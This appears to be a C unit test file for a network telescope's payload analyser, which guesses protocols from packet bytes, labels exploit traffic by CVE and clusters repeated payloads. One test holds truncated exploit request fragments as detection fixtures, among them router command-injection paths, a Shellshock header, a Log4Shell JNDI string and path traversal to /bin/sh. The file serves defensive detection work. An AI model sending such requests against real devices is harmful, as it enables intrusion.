/* What packets carry: protocol by the bytes, known exploits by name, equal payloads counted together. */
#include "build.h"

#include "observe/telescope/payload.h"

#define GUESS(text, protocol, port) payload_guess((const uint8_t *)(text), sizeof(text) - 1, protocol, port)
#define EXPLOIT(text) payload_exploit_of((const uint8_t *)(text), sizeof(text) - 1)

static void the_first_bytes_tell_the_protocol_on_any_port(void **state)
{
	(void)state;
	static const struct {
		const char *guess, *bytes;
		uint8_t length, protocol;
	} cases[] = {
#define CASE(guess, protocol, text) {guess, text, sizeof(text) - 1, protocol}
		CASE("ssdp", 17, "M-SEARCH * HTTP/1.1\r\n"),
		CASE("ssdp", 17, "NOTIFY * HTTP/1.1\r\n"),
		CASE("sip", 17, "OPTIONS sip:100@198.18.0.1 SIP/2.0\r\n"),
		CASE("sip", 6, "REGISTER sip:198.18.0.1 SIP/2.0\r\n"),
		CASE("sip", 17, "INVITE sip:100@198.18.0.1 SIP/2.0\r\n"),
		CASE("sip", 17, "SIP/2.0 200 OK\r\n"),
		CASE("rtsp", 6, "OPTIONS rtsp://198.18.0.1 RTSP/1.0\r\n"),
		CASE("http", 6, "GET / HTTP/1.1\r\n"),
		CASE("http", 6, "POST / HTTP/1.1\r\n"),
		CASE("http", 6, "HEAD / HTTP/1.0\r\n"),
		CASE("http", 6, "CONNECT 192.0.2.1:443 HTTP/1.1\r\n"),
		CASE("http2", 6, "PRI * HTTP/2.0\r\n"),
		CASE("ssh", 6, "SSH-2.0-Go\r\n"),
		CASE("tls", 6, "\x16\3\1\2\0\1\0\1\xfc\3\3"),
		CASE("dtls", 17, "\x16\xfe\xfd\0\0"),
		CASE("rdp", 6, "\3\0\0\x13\x0e\xe0\0\0\0\0\0\1\0\x08\0\3\0\0\0"),
		CASE("smb", 6, "\0\0\0\x85\xffSMBr"),
		CASE("smb", 6, "\0\0\0\x85\xfeSMB@"),
		CASE("bittorrent", 17, "d1:ad2:id20:abcdefghij"),
		CASE("stun", 17, "\0\1\0\0\x21\x12\xa4\x42"),
		CASE("redis", 6, "*1\r\n$4\r\nINFO\r\n"),
		CASE("mqtt", 6, "\x10\x0c\0\4MQTT\4"),
		CASE("adb", 6, "CNXN\0\0\0\1"),
		CASE("vnc", 6, "RFB 003.008\n"),
		CASE("smtp", 6, "EHLO there\r\n"),
		CASE("netis", 17, "AA\0\0AAAA cd /tmp"),
		CASE("quic", 17, "\xc0\0\0\0\1\x08"),
		CASE("memcached", 17, "\0\0\0\0\0\1\0\0stats\r\n"),
		CASE("source-engine", 17, "\xff\xff\xff\xffTSource Engine Query"),
#undef CASE
	};
	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
		const char *guess =
			payload_guess((const uint8_t *)cases[i].bytes, cases[i].length, cases[i].protocol, 4711);
		assert_non_null(guess);
		assert_string_equal(guess, cases[i].guess);
	}
}

static void where_bytes_alone_do_not_tell_the_port_helps(void **state)
{
	(void)state;
	assert_string_equal(GUESS("\1\2\1\0\0\1\0\0\0\0\0\0\3isc\3org\0\0\1\0\1", 17, 53), "dns");
	assert_string_equal(GUESS("\x1b\0\0\0", 17, 123), "ntp");
	assert_string_equal(GUESS("\x30\x26\2\1\1\4\6public", 17, 161), "snmp");
	assert_string_equal(GUESS("\6\0\xff\7", 17, 623), "ipmi");
	assert_string_equal(GUESS("\x81\x0a\0\x08\1\4\0\5", 17, 47808), "bacnet");
	assert_string_equal(GUESS("\x40\1\x7d\x70", 17, 5683), "coap");
	assert_null(GUESS("\x30\x26\2\1\1\4\6public", 17, 40000));
	assert_null(GUESS("\x1b\0\0\0", 6, 123));
	assert_null(GUESS("\xff", 17, 53)); /* too short for what the port promises */
}

static void what_nobody_knows_is_unknown(void **state)
{
	(void)state;
	assert_null(GUESS("hello there", 6, 4711));
	assert_null(GUESS("", 17, 53));
	assert_null(EXPLOIT("GET / HTTP/1.1\r\nHost: example.org\r\n"));
}

static void known_exploits_are_named_by_cve(void **state)
{
	(void)state;
	static const struct {
		const char *cve, *bytes;
		size_t length;
	} cases[] = {
#define CASE(cve, text) {cve, text, sizeof(text) - 1}
		CASE("CVE-2017-17215", "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\n"),
		CASE("CVE-2014-8361", "POST /picsdesc.xml HTTP/1.1\r\n"),
		CASE("CVE-2014-8361", "POST /wanipcn.xml HTTP/1.1\r\n"),
		CASE("CVE-2018-10561", "POST /GponForm/diag_Form?images/ HTTP/1.1\r\n"),
		CASE("CVE-2016-10372", "POST /UD/act?1 HTTP/1.1\r\n"),
		CASE("CVE-2015-2051", "SOAPAction: http://purenetworks.com/HNAP1/`cd /tmp`\r\n"),
		CASE("CVE-2014-2321", "GET /web_shell_cmd.gch HTTP/1.1\r\n"),
		CASE("CVE-2016-20016", "GET /shell?cd+/tmp; HTTP/1.1\r\n"),
		CASE("CVE-2024-3721", "POST /device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos HTTP/1.1\r\n"),
		CASE("CVE-2021-36260", "PUT /SDK/webLanguage HTTP/1.1\r\n"),
		CASE("CVE-2023-1389", "GET /cgi-bin/luci/;stok=/locale?form=country HTTP/1.1\r\n"),
		CASE("CVE-2017-18368", "POST /cgi-bin/ViewLog.asp HTTP/1.1\r\n"),
		CASE("CVE-2016-6277", "GET /cgi-bin/;cd${IFS}/tmp HTTP/1.1\r\n"),
		CASE("CVE-2021-20090", "POST /images/..%2fapply_abstract.cgi HTTP/1.1\r\n"),
		CASE("CVE-2020-25506", "POST /cgi-bin/system_mgr.cgi? HTTP/1.1\r\n"),
		CASE("CVE-2018-20062", "GET /index.php?s=/index/\\think\\app/invokefunction HTTP/1.1\r\n"),
		CASE("CVE-2017-9841", "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\n"),
		CASE("CVE-2021-41773", "GET /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1\r\n"),
		CASE("CVE-2014-6271", "User-Agent: () { :; }; /bin/true\r\n"),
		CASE("CVE-2021-44228", "User-Agent: ${jndi:ldap://192.0.2.1/a}\r\n"),
		CASE("CVE-2019-0708", "\3\0\1\xe0 MS_T120"),
		CASE("CVE-2020-2100", "jenkins-discovery"),
		CASE("CVE-2013-5211", "\x17\0\3\x2a\0\0\0\0"),
		CASE("CVE-2018-1000115", "\0\0\0\0\0\1\0\0stats\r\n"),
		CASE(NULL, "AA\0\0AAAA cd /tmp"), /* nobody gave Netis' door a number */
#undef CASE
	};
	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
		const struct payload_exploit *exploit =
			payload_exploit_of((const uint8_t *)cases[i].bytes, cases[i].length);
		if (!exploit)
			fail_msg("nothing was found in \"%s\"", cases[i].bytes);
		if (cases[i].cve)
			assert_string_equal(exploit->cve, cases[i].cve);
		else
			assert_null(exploit->cve);
	}
}

static uint32_t note(struct payloads *payloads, struct made made)
{
	struct packet packet = made_parse(&made);
	return payloads_note(payloads, &packet);
}

static void equal_first_bytes_are_one_cluster(void **state)
{
	(void)state;
	struct payloads *payloads = payloads_new();
	assert_non_null(payloads);
	uint32_t a = note(payloads, UDP(.dport = 5060, DATA("OPTIONS sip:a")));
	assert_int_equal(note(payloads, UDP(.dport = 5061, .time_ns = T0 + 5, DATA("OPTIONS sip:a"))), a);
	assert_int_not_equal(note(payloads, UDP(.dport = 5060, DATA("OPTIONS sip:b"))), a);
	char long_one[200], long_other[200];
	memset(long_one, 'x', sizeof long_one);
	memcpy(long_other, long_one, sizeof long_one);
	long_other[64] = 'y'; /* behind what is compared */
	uint32_t b = note(payloads, TCP(.flags = 24, .data = long_one, .data_bytes = 200));
	assert_int_equal(note(payloads, TCP(.flags = 24, .data = long_other, .data_bytes = 200)), b);
	assert_int_equal(note(payloads, TCP()), 0);
	assert_int_equal(note(payloads, ICMP(.type = 8)), 0);
	struct payload_cluster top[4];
	assert_int_equal(payloads_top(payloads, top, 4), 3);
	assert_int_equal(top[0].packets, 2);
	assert_int_equal(top[1].packets, 2);
	assert_int_equal(top[2].packets, 1);
	const struct payload_cluster *sip = top[0].hash == a ? &top[0] : &top[1];
	assert_string_equal(sip->guess, "sip");
	assert_int_equal(sip->port, 5060);
	assert_int_equal(sip->first_ns, T0);
	assert_int_equal(sip->last_ns, T0 + 5);
	payloads_free(payloads);
}

static void clusters_have_a_ceiling_and_what_finds_no_place_is_counted(void **state)
{
	(void)state;
	struct payloads *payloads = payloads_new();
	struct made made = UDP(.dport = 4711, DATA("0123456789"));
	for (uint32_t i = 0; i < PAYLOAD_CLUSTERS_MAX + 100; i++) {
		put32(made.bytes + 14 + 20 + 8, i);
		assert_int_not_equal(note(payloads, made), 0);
	}
	assert_true(payloads_refused(payloads) >= 99);
	put32(made.bytes + 14 + 20 + 8, 5);
	uint64_t refused = payloads_refused(payloads);
	note(payloads, made); /* what has a place keeps it */
	assert_int_equal(payloads_refused(payloads), refused);
	payloads_free(payloads);
}

static void a_rows_payload_is_the_hash_of_its_cluster(void **state)
{
	(void)state;
	struct kept *kept = watch_plain();
	struct payloads *payloads = payloads_new();
	feed(kept, UDP(.dport = 5060, DATA("OPTIONS sip:a")));
	finish(kept);
	assert_int_equal(kept->rows[0].payload, note(payloads, UDP(.dport = 5060, DATA("OPTIONS sip:a"))));
	payloads_free(payloads);
	unwatch(kept);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(the_first_bytes_tell_the_protocol_on_any_port),
		cmocka_unit_test(where_bytes_alone_do_not_tell_the_port_helps),
		cmocka_unit_test(what_nobody_knows_is_unknown),
		cmocka_unit_test(known_exploits_are_named_by_cve),
		cmocka_unit_test(equal_first_bytes_are_one_cluster),
		cmocka_unit_test(clusters_have_a_ceiling_and_what_finds_no_place_is_counted),
		cmocka_unit_test(a_rows_payload_is_the_hash_of_its_cluster),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
